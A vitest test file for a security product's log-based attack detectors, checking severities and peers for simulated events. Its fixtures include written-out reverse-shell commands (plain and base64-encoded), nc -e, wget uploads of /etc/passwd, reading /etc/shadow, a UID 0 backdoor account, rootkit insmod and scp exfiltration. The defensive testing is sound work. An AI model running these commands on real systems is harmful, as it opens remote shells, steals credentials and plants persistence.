import { afterAll, describe, expect, it } from 'vitest';
import { insertEvents, newAssessment, runDetectors, type TestEvent } from '../../../test/kits/detect';
import { closeDb } from '../../db/client';
import { detectors } from '../registry';

afterAll(closeDb);

const logDetectors = detectors.filter((d) => d.source === 'logs');
const T0 = Date.parse('2024-03-07T10:00:00Z');
const at = (s: number) => new Date(T0 + s * 1000);
const exec = (s: number, argv: string[], extra: Partial<TestEvent> = {}): TestEvent => ({
  ts: at(s),
  kind: 'exec',
  exe: argv[0],
  argv,
  uid: 1000,
  euid: 1000,
  user: 'alice',
  ...extra,
});

async function detect(events: TestEvent[]) {
  const a = await newAssessment();
  await insertEvents(a, events);
  return runDetectors(a, logDetectors);
}

describe('log detectors: one attack step each', () => {
  it.each<[string, TestEvent[], string, string, string | null]>([
    ['reverse shell /dev/tcp', [exec(0, ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'])], 'logs.reverse-shell', 'critical', '203.0.113.5'],
    [
      'reverse shell base64',
      [exec(0, ['bash', '-c', '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQ==}|{base64,-d}|{bash,-i}'])],
      'logs.reverse-shell',
      'critical',
      '192.168.2.6',
    ],
    ['nc -e', [exec(0, ['/usr/bin/nc', '-e', '/bin/sh', '198.51.100.4', '4444'])], 'logs.reverse-shell', 'critical', '198.51.100.4'],
    ['web account runs id', [exec(0, ['/usr/bin/id'], { user: 'www-data', uid: 33, euid: 33 })], 'logs.web-server-exec', 'critical', null],
    [
      'service account sudo',
      [
        {
          ts: at(0),
          kind: 'sudo',
          user: 'www-data',
          exe: '/bin/bash',
          argv: ['/bin/bash'],
          result: 'USER=root',
        },
      ],
      'logs.privilege-escalation',
      'high',
      null,
    ],
    [
      'privileged account',
      [
        {
          ts: at(0),
          kind: 'user_add',
          user: 'backdoor',
          uid: 0,
          raw: 'useradd[9]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash',
        },
      ],
      'logs.account-creation',
      'high',
      null,
    ],
    [
      'normal account',
      [
        {
          ts: at(0),
          kind: 'user_add',
          user: 'bob',
          uid: 1001,
          raw: 'useradd[9]: new user: name=bob, UID=1001, GID=1001, home=/home/bob',
        },
      ],
      'logs.account-creation',
      'medium',
      null,
    ],
    [
      'crontab replaced',
      [
        {
          ts: at(0),
          kind: 'cron_replace',
          user: 'www-data',
          program: 'crontab',
        },
      ],
      'logs.cron-change',
      'medium',
      null,
    ],
    [
      'unit written',
      [
        {
          ts: at(0),
          kind: 'file_create',
          exe: '/usr/bin/cp',
          paths: ['/etc/systemd/system/evil.service'],
        },
      ],
      'logs.systemd-unit',
      'medium',
      null,
    ],
    [
      'authorized_keys',
      [
        {
          ts: at(0),
          kind: 'file_write',
          exe: '/usr/bin/tee',
          paths: ['/root/.ssh/authorized_keys'],
        },
      ],
      'logs.authorized-keys',
      'medium',
      null,
    ],
    [
      'ld.so.preload',
      [
        {
          ts: at(0),
          kind: 'file_write',
          exe: '/usr/bin/vi',
          paths: ['/etc/ld.so.preload'],
        },
      ],
      'logs.ld-preload',
      'high',
      null,
    ],
    [
      'insmod',
      [
        exec(0, ['/sbin/insmod', 'rootkit.ko'], {
          user: 'root',
          uid: 0,
          euid: 0,
        }),
      ],
      'logs.kernel-module',
      'high',
      null,
    ],
    ['wget into /tmp', [exec(0, ['wget', 'http://203.0.113.8/x', '-O', '/tmp/x'])], 'logs.tool-download', 'high', '203.0.113.8'],
    ['wget --post-file', [exec(0, ['wget', '--post-file=/etc/passwd', 'http://203.0.113.9/u'])], 'logs.tool-upload', 'medium', '203.0.113.9'],
    [
      'python connects out',
      [
        {
          ts: at(0),
          kind: 'connect',
          exe: '/usr/bin/python3',
          dst: '203.0.113.10',
          dport: 8443,
        },
      ],
      'logs.external-connect',
      'high',
      '203.0.113.10',
    ],
    ['cat /etc/shadow', [exec(0, ['cat', '/etc/shadow'])], 'logs.sensitive-file-read', 'medium', null],
    [
      'ssh probe',
      [
        {
          ts: at(0),
          kind: 'ssh_no_ident',
          program: 'sshd',
          src: '198.51.100.70',
        },
      ],
      'logs.ssh-probe',
      'low',
      '198.51.100.70',
    ],
  ])('%s', async (_name, events, id, severity, peer) => {
    const found = await detect(events);
    expect(found.map((d) => [d.detector, d.severity, d.peer])).toEqual([[id, severity, peer]]);
    expect(found[0]?.evidenceIds).toHaveLength(events.length);
  });

  it('web-server parent: tomcat (java) spawning bash through ppid', async () => {
    const found = await detect([
      {
        ts: at(0),
        kind: 'connect',
        exe: '/usr/lib/jvm/bin/java',
        program: 'java',
        pid: 1340,
        dst: '10.0.0.9',
        dport: 5432,
        user: 'svc',
      },
      exec(5, ['/bin/sh', '-c', 'uname -a'], {
        user: 'svc',
        raw: 'type=SYSCALL ppid=1340 pid=2000 comm="sh"',
      }),
    ]);
    expect(found.map((d) => [d.detector, d.severity])).toEqual([['logs.web-server-exec', 'critical']]);
  });

  it('login after guessing: 25 failures then Accepted from the same source and user is a valid-account login (Delivery, T1078)', async () => {
    const fails = Array.from(
      { length: 25 },
      (_, i): TestEvent => ({
        ts: at(i * 2),
        kind: 'ssh_failed',
        program: 'sshd',
        user: 'root',
        src: '203.0.113.66',
      }),
    );
    const found = await detect([
      ...fails,
      {
        ts: at(60),
        kind: 'ssh_accepted',
        program: 'sshd',
        user: 'root',
        src: '203.0.113.66',
      },
    ]);
    const ok = found.filter((d) => d.detector === 'logs.ssh-bruteforce-success');
    expect(ok.map((d) => [d.stage, d.technique, d.severity, d.peer, d.evidenceIds.length])).toEqual([['delivery', 'T1078', 'high', '203.0.113.66', 26]]);
    expect(found.map((d) => d.detector).sort()).toEqual(['logs.ssh-bruteforce-success', 'logs.ssh-password-guessing']);
  });

  it('archive in /tmp then an upload: staging (no peer) and the upload (with its peer) stay two detections', async () => {
    const found = await detect([exec(0, ['tar', '-czf', '/tmp/d.tgz', '/srv/data']), exec(60, ['scp', '/tmp/d.tgz', 'x@203.0.113.12:/in/'])]);
    expect(found.map((d) => [d.detector, d.stage, d.technique, d.peer]).sort()).toEqual([
      ['logs.archive-staging', 'exploitation', 'T1560.001', null],
      ['logs.tool-upload', 'actions', 'T1048.003', '203.0.113.12'],
    ]);
  });
});
